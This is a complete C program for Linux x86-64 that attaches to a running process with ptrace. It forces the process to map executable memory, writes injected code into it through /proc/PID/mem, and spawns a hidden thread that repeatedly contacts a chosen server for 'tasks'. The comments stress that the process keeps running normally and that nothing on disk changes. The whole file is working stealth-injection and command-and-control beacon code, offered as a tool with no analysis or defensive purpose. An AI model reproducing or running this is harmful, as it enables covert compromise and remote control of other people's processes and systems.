/*
 * inject PID ADDRESS PORT SECONDS: puts a thread into a process that runs already (ptrace, x86-64), which then asks a web
 * server for tasks every so many seconds. The process goes on with what it did; nothing on disk changes.
 *
 * The code is copied into memory that the process is made to allocate. It therefore calls nothing and has no constants of
 * its own: system calls only, and what it needs lies in `struct task` beside it.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

struct task {
  struct sockaddr_in to;
  struct timespec nap;
  long request_bytes;
  char request[128];
  char answer[4096];
};

#define IN_TARGET __attribute__((section("injected"), used, noinline, no_stack_protector))
#define CLONE_FLAGS (CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM)

static inline __attribute__((always_inline)) long call(long number, long a, long b, long c, long d)
{
  register long r10 __asm__("r10") = d;
  register long r8 __asm__("r8") = 0;
  register long r9 __asm__("r9") = 0;
  long result;
  __asm__ volatile("syscall"
                   : "=a"(result)
                   : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                   : "rcx", "r11", "memory");
  return result;
}

/* The thread: calls, reads to the end, sleeps. */
IN_TARGET static void beacon(struct task *task)
{
  for (;;) {
    long fd = call(SYS_socket, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0, 0);
    if (call(SYS_connect, fd, (long)&task->to, sizeof task->to, 0) == 0) {
      call(SYS_sendto, fd, (long)task->request, task->request_bytes, MSG_NOSIGNAL);
      while (call(SYS_read, fd, (long)task->answer, sizeof task->answer, 0) > 0) continue;
    }
    call(SYS_close, fd, 0, 0, 0);
    call(SYS_nanosleep, (long)&task->nap, 0, 0, 0);
  }
}

/* Where the stopped process goes on: makes the thread (rdi flags, rsi its stack, r12 its task) and stops again. */
__asm__(".pushsection injected,\"ax\"\n"
        "injected_start: mov $56, %eax\n"
        "  xor %edx, %edx\n  xor %r10d, %r10d\n  xor %r8d, %r8d\n"
        "  syscall\n  test %rax, %rax\n  jz 1f\n  int3\n"
        "1: mov %r12, %rdi\n  xor %ebp, %ebp\n  call beacon\n"
        ".popsection");

/* Made by the linker: the section's ends. */
extern const char __start_injected[], __stop_injected[], injected_start[];

static void fail(const char *action)
{
  fprintf(stderr, "Cannot %s: %s; is it a running x86-64 process that this user may trace?\n", action, strerror(errno));
  exit(1);
}

/* Lets the stopped process run with these registers until it meets an int3; what it then has in rax. */
static long run_until_trap(pid_t pid, struct user_regs_struct regs)
{
  int status;
  regs.orig_rax = (unsigned long long)-1;
  if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0 || ptrace(PTRACE_CONT, pid, 0, 0) < 0) fail("go on with the process");
  if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status) || WSTOPSIG(status) != SIGTRAP) fail("stop the process again");
  ptrace(PTRACE_GETREGS, pid, 0, &regs);
  return (long)regs.rax;
}

/* Has the process allocate memory: `syscall; int3` stands for a moment where it was stopped. */
static unsigned long allocate(pid_t pid, struct user_regs_struct regs, size_t bytes)
{
  long before = ptrace(PTRACE_PEEKTEXT, pid, regs.rip, 0);
  ptrace(PTRACE_POKETEXT, pid, regs.rip, (before & ~0xffffffL) | 0xcc050fL);
  regs.rax = SYS_mmap;
  regs.rdi = 0;
  regs.rsi = bytes;
  regs.rdx = PROT_READ | PROT_WRITE | PROT_EXEC;
  regs.r10 = MAP_PRIVATE | MAP_ANONYMOUS;
  regs.r8 = (unsigned long long)-1;
  regs.r9 = 0;
  unsigned long address = (unsigned long)run_until_trap(pid, regs);
  ptrace(PTRACE_POKETEXT, pid, regs.rip, before);
  return address;
}

static void put(pid_t pid, unsigned long address, const void *bytes, size_t length)
{
  char path[32];
  snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
  int memory = open(path, O_RDWR | O_CLOEXEC);
  if (memory < 0 || pwrite(memory, bytes, length, (off_t)address) != (ssize_t)length) fail("write into the process");
  close(memory);
}

static void start_thread(pid_t pid, struct user_regs_struct regs, const struct task *task)
{
  size_t code_bytes = (size_t)(__stop_injected - __start_injected), whole = 1 << 16;
  unsigned long memory = allocate(pid, regs, whole), place = memory + 8192;
  if (memory > -4096UL) fail("allocate memory in the process");
  put(pid, memory, __start_injected, code_bytes);
  put(pid, place, task, sizeof *task);
  regs.rip = memory + (unsigned long)(injected_start - __start_injected);
  regs.rdi = CLONE_FLAGS;
  regs.rsi = memory + whole;
  regs.r12 = place;
  if (run_until_trap(pid, regs) <= 0) fail("start a thread in the process");
}

int main(int argc, char **argv)
{
  static struct task task;
  struct user_regs_struct regs;
  pid_t pid = argc == 5 ? atoi(argv[1]) : 0;
  if (pid <= 0 || inet_pton(AF_INET, argv[2], &task.to.sin_addr) != 1) {
    fprintf(stderr, "usage: inject PID ADDRESS PORT SECONDS\n");
    return 2;
  }
  task.to.sin_family = AF_INET;
  task.to.sin_port = htons((unsigned short)atoi(argv[3]));
  task.nap.tv_sec = atoi(argv[4]);
  task.request_bytes = snprintf(task.request, sizeof task.request, "GET /tasks HTTP/1.0\r\nHost: %s\r\n\r\n", argv[2]);
  if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0 || waitpid(pid, NULL, __WALL) != pid) fail("stop the process");
  if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0) fail("read the process's registers");
  start_thread(pid, regs, &task);
  if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0 || ptrace(PTRACE_DETACH, pid, 0, 0) < 0) fail("let the process go on");
  return 0;
}
